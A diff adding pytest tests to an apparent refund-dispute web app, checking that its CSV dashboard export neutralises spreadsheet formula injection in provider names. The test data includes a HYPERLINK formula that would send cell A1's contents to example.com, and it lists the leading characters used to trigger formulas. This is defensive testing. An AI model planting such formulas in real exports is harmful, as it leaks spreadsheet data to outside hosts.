@@ -294,6 +294,33 @@ def test_dashboard_numbers_on_factory_data(client, owner):
     assert ["median_days_to_refund_by_provider", "拉卡拉支付股份有限公司", "cases=3", "20"] in rows
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_name_that_looks_like_a_formula_reaches_the_csv_as_text(client, owner, start):
+    """A merchant types the company's name; a volunteer opens the CSV in a spreadsheet: no formula runs."""
+    name = f'{start}HYPERLINK("http://example.com/?"&A1,"点我")'
+    case = open_case(owner, provider=None, provider_other=name)  # a typed name joins the provider directory
+    if start.isspace():  # the intake trims a leading tab or CR, but an admin may still edit one in
+        Provider.objects.filter(pk=case.provider_id).update(name=name)
+    case.refresh_from_db()
+    assert case.provider.name == name
+    case.log_step(rung=Rung.objects.get(position=2), actor=owner, started_on=dt.date(2026, 1, 1))
+    case.resolve(Decimal("299"), dt.date(2026, 1, 20), Rung.objects.get(position=3), owner)
+
+    client.force_login(volunteer())
+    rows = list(csv.reader(io.StringIO(client.get("/review/dashboard.csv").content.decode(), newline="")))
+    assert ["median_days_to_refund_by_provider", "'" + name, "cases=1", "19"] in rows
+    assert ["refunded_cases", "", "", "1"] in rows  # numbers stay numbers
+
+
+def test_only_formula_like_text_is_quoted():
+    from disputes.views.review import spreadsheet_safe
+
+    for text in ["=1+1", "+86 138", "-5", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"]:
+        assert spreadsheet_safe(text) == "'" + text
+    for value in ["拉卡拉支付股份有限公司", "cases=3", "a-b", "", 20, -3, 12.5]:
+        assert spreadsheet_safe(value) == value
+
+
 def test_advice_appears_once_five_cases_with_the_provider_closed(client, owner):
     lakala = Provider.objects.get(short_name_zh="拉卡拉")
     start = dt.date(2026, 1, 1)
